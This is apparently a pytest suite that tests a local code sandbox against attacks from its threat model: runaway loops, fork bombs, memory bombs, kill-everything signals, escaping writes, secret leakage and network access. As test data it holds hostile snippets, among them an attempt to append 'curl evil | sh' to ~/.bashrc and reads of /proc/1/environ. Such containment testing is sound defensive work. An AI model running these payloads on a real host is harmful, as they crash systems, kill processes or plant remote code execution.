"""One test per attack in the local sandbox's threat model (see agentgym.sandboxes.contract).

Each attack asserts the status it must come back as, and, through the
`host` fixture, that the host is as it was: no leftover process of ours,
no leaked file descriptor, no file written outside the work dir.
"""

from __future__ import annotations

import os
import shutil
import time
from pathlib import Path

import pytest

from agentgym.sandboxes import SandboxUnavailableError, make_sandbox
from agentgym.sandboxes.local import LocalSandbox, unavailable_reason

MODES = [m for m in ("bwrap", "unshare") if unavailable_reason(m) is None]
pytestmark = pytest.mark.skipif(not MODES, reason="neither bwrap nor unshare can isolate here")
HOME = Path.home()


def _live_processes() -> dict[int, str]:
    """pid -> cmdline of every live (non-zombie) process on the machine."""
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if "State:\tZ" not in status:
            found[int(entry)] = cmdline.replace(b"\0", b" ").decode(errors="replace")
    return found


def _children() -> set[int]:
    me = str(os.getpid())
    kids = set()
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        if stat.rsplit(")", 1)[1].split()[1] == me:
            kids.add(int(entry))
    return kids


def _snapshot() -> dict[str, object]:
    return {
        "children": _children(),
        "fds": len(os.listdir("/proc/self/fd")),
        "tmp": set(os.listdir("/tmp")),
        "home": {p.name: p.stat().st_mtime for p in HOME.iterdir()},
    }


def _sandboxed_leftovers() -> list[str]:
    """Live processes started by a sandbox: our marker args, or a sandbox uid."""
    return [c for c in _live_processes().values() if "1000.25" in c or "1000.75" in c]


@pytest.fixture
def host():
    """Snapshots the host before the test and checks it is unchanged after."""
    before = _snapshot()
    yield
    deadline = time.monotonic() + 3  # the kernel tears a pid namespace down asynchronously
    while time.monotonic() < deadline and (_sandboxed_leftovers() or _snapshot() != before):
        time.sleep(0.05)
    assert _sandboxed_leftovers() == []
    assert _snapshot() == before


@pytest.fixture(scope="module", params=MODES)
def sb(request):
    sandbox = LocalSandbox(isolation=request.param)
    yield sandbox
    sandbox.close()


@pytest.fixture(scope="module")
def default_sb():
    sandbox = make_sandbox("local")
    yield sandbox
    sandbox.close()


# -- the contract ----------------------------------------------------------------


def test_normal_code_returns_ok_with_stdout(sb, host):
    res = sb.run("print(sum(range(10)))")
    assert (res.status, res.stdout, res.exit_code) == ("ok", "45\n", 0)
    assert res.duration_s > 0


def test_stdin_and_files_are_passed(sb, host):
    res = sb.run("print(input()[::-1], open('data/x.txt').read())", stdin="abc\n",
                 files={"data/x.txt": "hello"})  # fmt: skip
    assert (res.status, res.stdout) == ("ok", "cba hello\n")


def test_exit_code_is_propagated(sb, host):
    res = sb.run("import sys; sys.exit(7)")
    assert (res.status, res.exit_code) == ("error", 7)


def test_exception_is_an_error_with_a_clean_traceback(sb, host):
    res = sb.run("1/0")
    assert res.status == "error"
    assert res.stderr.startswith("Traceback") and "main.py" in res.stderr
    assert "ZeroDivisionError" in res.stderr and "<string>" not in res.stderr


def test_isolation_none_warns_on_every_run(host):
    sandbox = LocalSandbox(isolation="none")
    for _ in range(2):
        with pytest.warns(UserWarning, match="UNISOLATED"):
            assert sandbox.run("print(1)").status == "ok"


def test_auto_without_tools_refuses_with_the_install_hint(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda *a, **k: None)
    with pytest.raises(SandboxUnavailableError, match="apt-get install -y bubblewrap"):
        LocalSandbox(isolation="auto")


def test_unknown_kind_lists_the_valid_ones():
    with pytest.raises(ValueError, match="local, docker"):
        make_sandbox("vm")  # type: ignore[arg-type]


def test_warm_pool_runs_each_interpreter_once(host):
    # pids repeat across pid namespaces, so freshness is shown by state left behind:
    # an interpreter used twice would see the mark its first run set.
    probe = "import builtins\nprint(hasattr(builtins, 'seen'))\nbuiltins.seen = True"
    with LocalSandbox(pool_size=2) as sandbox:
        results = [sandbox.run(probe) for _ in range(5)]
        outputs = [r.stdout.strip() for r in results]
        last = sandbox.run("import os; print(os.getuid())")
    assert outputs == ["False"] * 5, results
    assert last.status == "ok" and int(last.stdout) != 0, last  # a pooled run is unprivileged too


# -- CPU and time ----------------------------------------------------------------

TIMEOUTS = {
    "python_loop": "while True: pass",
    "c_level_bignum": "x = 10**(10**8)",
    "catastrophic_regex": "import re; re.match(r'(a+)+$', 'a' * 64 + 'b')",
    "ignores_sigalrm_catches_base_exception": (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "while True:\n    try:\n        pass\n    except BaseException:\n        pass"
    ),
    "sleep_forever": "import time; time.sleep(10**6)",
    "input_never_answered_by_a_child": "import subprocess; subprocess.run(['sleep', '1000.25'])",
}


@pytest.mark.parametrize("code", TIMEOUTS.values(), ids=TIMEOUTS.keys())
def test_runaway_code_times_out(sb, host, code):
    t0 = time.monotonic()
    res = sb.run(code, timeout_s=0.7)
    assert res.status == "timeout"
    assert time.monotonic() - t0 < 3


def test_many_timed_out_runs_leak_nothing(default_sb, host):
    for _ in range(200):
        assert default_sb.run("while True: pass", timeout_s=0.05).status == "timeout"


# -- processes -----------------------------------------------------------------------

FORK_LOOP = "while True:\n    try:\n        {}.fork()\n    except OSError:\n        pass"
FORK_BOMBS = {
    "os_fork": "import os\n" + FORK_LOOP.format("os"),
    "posix_fork": "import posix\n" + FORK_LOOP.format("posix"),
}


@pytest.mark.parametrize("code", FORK_BOMBS.values(), ids=FORK_BOMBS.keys())
def test_fork_bomb_is_contained(sb, host, code):
    res = sb.run(code, timeout_s=1)
    assert res.status == "timeout"
    # A concurrent run still gets its processes: the limit is per run.
    assert sb.run("import os; os.wait() if os.fork() else print('forked')").status == "ok"


def test_process_limit_stops_a_big_pool(sb, host):
    code = "import multiprocessing as mp\nwith mp.Pool(64) as p: print(sum(p.map(abs, range(64))))"
    res = sb.run(code, timeout_s=3)
    assert res.status in ("error", "timeout")
    assert "2016" not in res.stdout


def test_grandchild_is_gone_after_the_run(sb, host):
    res = sb.run("import subprocess; subprocess.Popen(['sleep', '1000.25']); print('left')")
    assert (res.status, res.stdout) == ("ok", "left\n")


def test_setsid_double_fork_daemon_is_gone_after_the_run(sb, host):
    code = (
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '1000.75'])\n"
        "    os._exit(0)\nos.wait()\nprint('done')"
    )
    res = sb.run(code)
    assert (res.status, res.stdout) == ("ok", "done\n")


KILLERS = {
    "parent": "import os; os.kill(os.getppid(), 9)",
    "own_group": "import os; os.killpg(0, 9)",
    "everyone": "import os; os.kill(-1, 9); print('still here')",
}


@pytest.mark.parametrize("code", KILLERS.values(), ids=KILLERS.keys())
def test_killing_the_world_reaches_only_the_sandbox(sb, host, code):
    res = sb.run(code)
    assert res.status in ("ok", "killed", "error")
    assert sb.run("print('alive')").stdout == "alive\n"  # and so is this process


# -- memory ----------------------------------------------------------------------


def test_immediate_memory_bomb(sb, host):
    res = sb.run("x = bytearray(10**11)", memory_mb=256)
    assert res.status == "memory"


def test_gradual_memory_bomb(sb, host):
    res = sb.run("x = []\nwhile True: x.append(bytearray(10**6))", memory_mb=128, timeout_s=5)
    assert res.status == "memory"


def test_deep_recursion_is_reported(sb, host):
    res = sb.run("def f(n): return f(n + 1)\nf(0)")
    assert res.status == "error" and "RecursionError" in res.stderr


def test_unbounded_recursion_is_reported_not_a_host_crash(sb, host):
    code = "import sys\nsys.setrecursionlimit(10**8)\ndef f(n): return f(n + 1)\nf(0)"
    res = sb.run(code, memory_mb=128, timeout_s=3)
    assert res.status in ("memory", "killed", "timeout", "error")


# -- output --------------------------------------------------------------------------


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_huge_output_is_capped(host, stream):
    sandbox = LocalSandbox(max_output_bytes=100_000)
    res = sandbox.run(f"import sys\nwhile True: sys.{stream}.write('x' * 10**6)", timeout_s=5)
    text = getattr(res, stream)
    assert res.status == "output_limit"
    assert text.endswith("...[output truncated]") and len(text) < 100_100


def test_invalid_utf8_is_replaced(sb, host):
    res = sb.run("import sys; sys.stdout.buffer.write(b'ok \\xff\\xfe end')")
    assert (res.status, res.stdout) == ("ok", "ok \ufffd\ufffd end")


def test_input_without_stdin_is_an_error(sb, host):
    res = sb.run("input()")
    assert res.status == "error" and "EOFError" in res.stderr


# -- filesystem --------------------------------------------------------------------


# path -> the errno names the write may fail with
WRITES = {
    # the home dir is not there (ENOENT), or is an empty dir on the read-only root: one
    # the interpreter's prefix lies under (EROFS)
    "bashrc": (str(HOME / ".bashrc"), ("ENOENT", "EROFS")),
    "parent_dir": ("../escaped", ("EROFS",)),
    "root": ("/escaped", ("EROFS",)),
    "system": ("/etc/escaped", ("EROFS",)),
}
WRITE = """
import errno
try:
    open({path!r}, 'a').write('curl evil | sh')
    print('written')
except OSError as e:
    print(errno.errorcode[e.errno])
"""


@pytest.mark.parametrize(("path", "errnos"), WRITES.values(), ids=WRITES.keys())
def test_writes_outside_the_work_dir_fail(sb, host, path, errnos):
    res = sb.run(WRITE.format(path=path))
    assert res.status == "ok" and res.stdout.strip() in errnos, res


def test_tmp_is_private(sb, host):
    res = sb.run("open('/tmp/agentgym-escaped', 'w').write('x'); print('wrote')")
    assert (res.status, res.stdout) == ("ok", "wrote\n")
    assert not Path("/tmp/agentgym-escaped").exists()


def test_one_huge_file_hits_the_file_size_limit(sb, host):
    res = sb.run("open('big', 'wb').write(b'x' * 50 * 2**20)")
    assert res.status == "error" and "File too large" in res.stderr


def test_disk_fill_stops_at_the_tmpfs_size(sb, host):
    code = "for i in range(100):\n    open(f'f{i}', 'wb').write(b'x' * 5 * 2**20)"
    res = sb.run(code, timeout_s=5)
    assert res.status == "error" and "No space left" in res.stderr


# -- secrets -----------------------------------------------------------------------


def test_host_environment_is_invisible(sb, host, monkeypatch):
    monkeypatch.setenv("AGENTGYM_CANARY", "hunter2")
    res = sb.run("import os; print(sorted(os.environ), os.environ.get('AGENTGYM_CANARY'))")
    assert res.status == "ok" and "hunter2" not in res.stdout


def test_proc_1_environ_leaks_nothing(sb, host, monkeypatch):
    monkeypatch.setenv("AGENTGYM_CANARY", "hunter2")
    res = sb.run("print(open('/proc/1/environ', 'rb').read())")
    assert "hunter2" not in res.stdout + res.stderr


def test_home_cache_is_unreadable(sb, host):
    res = sb.run(f"import os; print(os.listdir({str(HOME / '.cache')!r}))")
    assert res.status == "error"


# -- network -------------------------------------------------------------------------


def test_outbound_tcp_fails(sb, host):
    # ENETUNREACH at once: the run's namespace has no route at all. That it is a namespace
    # of its own, which no offline host fakes, is in tests/test_sandbox_claims.py.
    code = "import socket; socket.create_connection(('1.1.1.1', 80), timeout=2)"
    res = sb.run(
        f"import errno\ntry:\n    {code}\nexcept OSError as e:\n    print(errno.errorcode[e.errno])"
    )
    assert (res.status, res.stdout) == ("ok", "ENETUNREACH\n"), res


def test_dns_fails(sb, host):
    res = sb.run("import socket; print(socket.getaddrinfo('pypi.org', 443))")
    assert res.status == "error" and "gaierror" in res.stderr


# The host's loopback, out of reach inside but reachable outside: tests/test_sandbox_claims.py.
